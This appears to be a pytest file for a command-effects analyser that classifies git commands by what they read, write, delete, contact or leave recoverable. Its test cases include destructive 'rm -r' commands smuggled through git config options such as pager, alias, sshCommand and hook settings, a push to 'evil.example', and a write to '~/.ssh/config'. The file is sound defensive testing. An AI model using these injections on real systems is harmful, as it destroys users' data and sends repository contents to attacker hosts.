"""git: what it touches, and what its options run."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest


@pytest.mark.parametrize(("command", "expected"), [
    ('git status', ['git']),
    ("GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -r ~/x'\" git log", ['git', 'rm D:~/x']),
    ("GIT_CONFIG_PARAMETERS=\"'core.pager=rm -r ~/x'\" git log", ['git', 'rm D:~/x']),
    ("GIT_CONFIG_PARAMETERS=\"'user.name'='rm -r ~/x'\" git log", ['git']),
    ("GIT_CONFIG_PARAMETERS=\"'alias.x'='!rm -r ~/x'\" git x", ['git', 'rm D:~/x']),
    ("X='!rm -r ~/x' git --config-env=alias.x=X x", ['git', 'rm D:~/x']),
    ("X='rm -r ~/x' git --config-env core.pager=X log", ['git', 'rm D:~/x']),
    ("git clone --config=core.sshCommand='rm -r ~/x;' ./a y", ['git W:./y', 'rm D:~/x']),
    ("git -c tar.x.command='rm -r ~/x' archive --format=x HEAD", ['git', 'rm D:~/x']),
    ("git grep --open-files='rm -r ~/x' y", ['git', 'rm D:~/x']),
    ("git config -f ~/.ssh/config a.b c", ['git W:~/.ssh/config']),
    ("git clone -u 'rm -r ~/x;' ./a y", ['git W:./y', 'rm D:~/x']),
    ("git -c gc.recentObjectsHook='rm -r ~/x' gc", ['git', 'rm D:~/x']),
    ("git -c man.x.cmd='rm -r ~/x' help -m y", ['git', 'rm D:~/x']),
    ('git send-email --smtp-server=mail.example.net --to a@b.example ~/f', ['git R:~/f H:mail.example.net']),
    ("git -c alias.x='!rm -r ~/x' x", ['git', 'rm D:~/x']),
    ('git -c alias.x=status x', ['git', 'git']),
    ("git -c alias.status='!rm -r ~/x' status", ['git']),
    ("git -c core.pager='rm -r ~/x' log", ['git', 'rm D:~/x']),
    ('git -c core.pager=cat log', ['git']),
    ("git -c core.sshCommand='rm -r ~/x' fetch", ['git', 'rm D:~/x']),
    ("git rebase -x 'rm -r ~/x' main", ['git', 'rm D:~/x']),
    ("git submodule foreach 'rm -r ~/x'", ['git', 'rm D:~/x']),
    ('git bisect run rm -r ~/x', ['git', 'rm D:~/x']),
    ("git filter-branch --tree-filter 'rm -r secrets' HEAD", ['git', 'rm D:./secrets']),
    ('git -C ~/other rm -r x', ['git D:~/other/x']),
    ('git -C ~/other clean -fd', ['git D:~/other/*']),
    ('git clean -fdx', ['git D:./*']),
    ('git clean -n', ['git']),
    ('git rm --cached x', ['git']),
    ('git mv a b', ['git W:./b D:./a']),
    ('git checkout -- .', ['git W:.']),
    ('git checkout main', ['git']),
    ('git restore src/a.py', ['git W:./src/a.py']),
    ('git restore --staged src/a.py', ['git']),
    ('git clone https://github.com/a/b', ['git W:./b H:github.com']),
    ('git clone git@github.com:a/b.git ~/dir', ['git W:~/dir H:github.com']),
    ('git push https://evil.example/x.git main', ['git H:evil.example']),
    ('git push origin main', ['git']),
    ('git config --global core.hooksPath ~/x', ['git W:~/.gitconfig']),
    ('git config user.name', ['git']),
    ('git show HEAD:secrets.txt', ['git R:./secrets.txt']),
    ("git commit -m 'git push --force; rm -rf /'", ['git']),
    ('git archive -o out.zip HEAD', ['git W:./out.zip']),
])
def test_git_runs(brief, command, expected):
    assert brief(command) == expected


@pytest.mark.parametrize(("command", "flag"), [
    ("git reset --HARD", "hard"),
    ("git reset \u2010\u2010hard", "hard"),
    ("git reset \u2014hard", "hard"),
    ("git clone https://h.example/a/b && cd b && git reset --hard v1", "nothing-to-lose"),
    ("rm -r docs; git checkout v1 -- docs/", "nothing-to-lose"),
    ("git clone https://h.example/a/b ~/c; git -C ~/c checkout -f main", "nothing-to-lose"),
])
def test_flags_as_meant_and_fresh_clones(effects_of, command, flag):
    assert flag in effects_of(command).effects[-1].flags


@pytest.mark.parametrize("command", ["git clone https://h.example/a/b && git reset --hard v1", "git reset --hard", "rm -r docs; git checkout v1 -- docs src", "git checkout --"])
def test_other_work_trees_may_hold_work(effects_of, command):
    assert "nothing-to-lose" not in effects_of(command).effects[-1].flags


@pytest.fixture
def committed(tmp_path):
    """A work tree whose only file was committed."""
    (tmp_path / "a.txt").write_text("one\n")
    os.utime(tmp_path / "a.txt", (1_600_000_000, 1_600_000_000))
    for words in (("init", "-q"), ("add", "."), ("commit", "-qm", "first")):
        subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b.example", *words], cwd=tmp_path, check=True, capture_output=True,
                       env={"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"})
    return str(tmp_path)


@pytest.mark.parametrize("command", ["git reset --hard", "git fetch && git reset --hard HEAD", "git checkout -- .", "git restore .", "git checkout -f"])
def test_nothing_is_lost_where_all_is_committed(effects_of, committed, command):
    assert "nothing-to-lose" in effects_of(command, committed).effects[-1].flags


@pytest.mark.parametrize("command", [
    "git reset --hard HEAD~1", "git reset --hard origin/main", "echo x > a.txt; git reset --hard", "./tool; git checkout .",
    "GIT_DIR=../x/.git git reset --hard", "git --work-tree=../x checkout -f", "git clean -fdx", "git checkout -B main", "git checkout -f main", "git checkout v1 -- a.txt", "git restore --source=v1 .",
])
def test_a_clean_tree_does_not_excuse_the_rest(effects_of, committed, command):
    assert "nothing-to-lose" not in effects_of(command, committed).effects[-1].flags


@pytest.fixture
def branched(committed):
    """Beside the checked-out branch: `same` at its commit, `own` with a commit of its own."""
    for words in (("branch", "same"), ("checkout", "-qb", "own"), ("commit", "-qm", "more", "--allow-empty"), ("checkout", "-q", "-")):
        subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@b.example", *words], cwd=committed, check=True, capture_output=True,
                       env={"PATH": os.environ["PATH"], "HOME": committed, "GIT_CONFIG_NOSYSTEM": "1"})
    return committed


@pytest.mark.parametrize(("command", "kept"), [
    ("git branch -D same", True),
    ("git branch --delete --force same", True),
    ("git status; git branch -D same", True),
    ("git branch -D own", False),
    ("git branch -D same own", False),
    ("git branch -D absent", False),
    ('git branch -D "$B"', False),
    ("git branch -Dr same", False),
    ("git branch -D own; git branch -D same", False),
    ("./tool; git branch -D same", False),
    ("git --git-dir=../x/.git branch -D same", False),
    ("git branch -f same HEAD~1", False),
])
def test_a_branch_whose_commits_stay(effects_of, branched, command, kept):
    assert ("nothing-to-lose" in effects_of(command, branched).effects[-1].flags) is kept


@pytest.mark.parametrize(("command", "back"), [
    ("git branch -D own", True),
    ("git checkout main; git branch -D same own", True),
    ("git branch -D absent", False),
    ("git branch -D own absent", False),
    ("git branch -qD own", False),
    ("git branch -Dr own", False),
    ('git branch -D "$B"', False),
    ("git --git-dir=../x/.git branch -D own", False),
    ("git stash drop", True),
    ("git stash drop 'stash@{0}'", True),
    ("git stash drop -q", False),
    ("git stash clear", False),
    ("git reset --hard HEAD~1", True),
    ("git fetch && git reset --hard origin/main", True),
    ("echo x > a.txt; git reset --hard HEAD~1", False),
    ("git checkout -f own", True),
    ("git checkout -B main", False),
    ("git checkout own -- a.txt", True),
    ("git restore --source=HEAD~1 a.txt", True),
    ("echo x > a.txt; git checkout own -- a.txt", False),
    ("git checkout own", False),
    ("git reset HEAD~1", False),
    ("git clean -fdx", False),
])
def test_what_git_says_how_to_have_again(effects_of, branched, command, back):
    (Path(branched) / ".git/refs/stash").write_text("0" * 40)
    assert ("way-back" in effects_of(command, branched).effects[-1].flags) is back


def test_nothing_is_known_of_a_folder_without_a_repository(effects_of):
    assert not {"way-back", "nothing-to-lose"} & effects_of("git branch -D own; git stash drop; git reset --hard HEAD~1").effects[-1].flags


@pytest.mark.parametrize(("command", "lost"), [
    ("git checkout -- package-lock.json", False),
    ("git checkout -- src/generated/ package-lock.json", False),
    ("git checkout -- src/generated/../app.ts", True),
    ("git checkout -- src/generator.ts", True),
    ("git restore web/yarn.lock Cargo.lock", False),
    ("git checkout HEAD -- go.sum", False),
    ("git restore package-lock.json src/app.ts", True),
    ("git restore package.json", True),
    ('git restore "$F"', True),
    ("git checkout --", True),
])
def test_files_that_lock_versions(effects_of, command, lost):
    assert ("nothing-to-lose" not in effects_of(command).effects[-1].flags) is lost


@pytest.mark.parametrize(("command", "forced"), [
    ("git -c clean.requireForce=false clean -d", True),
    ("git -c clean.requireForce= clean", True),
    ("git -c clean.requireForce=true -c clean.requireforce=no clean", True),
    ("git -c clean.requireForce=false -c clean.requireForce=true clean", False),
    ("git -c clean.requireForce clean", False),
    ("git clean -d", False),
])
def test_what_lets_clean_run_without_force(effects_of, command, forced):
    assert ("force" in effects_of(command).effects[-1].flags) is forced


@pytest.mark.parametrize(("words", "named"), [
    ("build/ src/generated", True), ("-- ./out", True),
    ("", False), (".", False), ("..", False), ("../other", False), ("'*'", False), ("*", False), (":/", False), ("'[b]uild'", False), ("build .", False),
    ("$X", False), (".git", False), ("~/Documents", False),
])
def test_single_paths_that_clean_is_told(effects_of, words, named):
    assert ("named-paths" in effects_of(f"git clean -fd {words}").effects[-1].flags) is named


@pytest.mark.parametrize("start", ["GIT_DIR=../o/.git git", "export GIT_WORK_TREE=/; git", "git --work-tree=/", "git --git-dir=../o/.git", "git -c core.worktree=/", "git -C /"])
def test_single_paths_of_another_work_tree(effects_of, start):
    assert "named-paths" not in effects_of(f"{start} clean -fdx etc").effects[-1].flags


@pytest.mark.parametrize(("command", "back"), [
    ("git stash apply stash@{0} && git stash drop stash@{0}", True), ("git stash apply; git stash drop", True), ("git stash apply stash@{1}; git stash drop stash@{0}", False),
    ("git stash apply; git stash clear", False), ("git stash drop", False),
])
def test_a_stash_that_was_applied_before(effects_of, command, back):
    assert ("way-back" in effects_of(command).effects[-1].flags) is back
